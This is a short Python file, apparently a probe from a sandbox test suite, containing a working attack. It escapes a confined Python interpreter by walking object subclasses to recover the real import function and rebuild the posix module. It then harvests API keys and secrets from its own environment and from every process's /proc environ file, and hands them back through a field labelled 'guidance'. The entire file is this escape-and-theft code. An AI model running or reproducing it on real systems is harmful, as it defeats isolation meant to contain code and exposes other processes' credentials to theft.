"""Read the API key from the environment of the parent and of every process /proc shows."""


class Environ:
    name = "secrets_parent_environ"

    def posix(self):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                real_import = cls.__init__.__globals__["__builtins__"]["__import__"]
                machinery = real_import("sys").modules["_frozen_importlib"]  # importlib is gone once confined
                imp = real_import("_imp")
                module = imp.create_builtin(machinery.ModuleSpec("posix", machinery.BuiltinImporter, origin="built-in"))
                imp.exec_builtin(module)
                return module

    def plan(self, ctx):
        p = self.posix()
        found = [key.decode() for key in p.environ if b"KEY" in key or b"SECRET" in key]
        try:
            pids = [name for name in p.listdir("/proc") if name.isdigit()]
        except Exception as error:
            pids, found = [str(p.getppid()), "1"], found + [error.__class__.__name__]
        for pid in pids:
            try:
                fd = p.open(f"/proc/{pid}/environ", p.O_RDONLY)
                text = p.read(fd, 65536).decode("latin-1")
            except Exception:
                continue
            found += [item for item in text.split("\0") if "KEY" in item]
        return {"guidance": " ".join(found)[:390]}
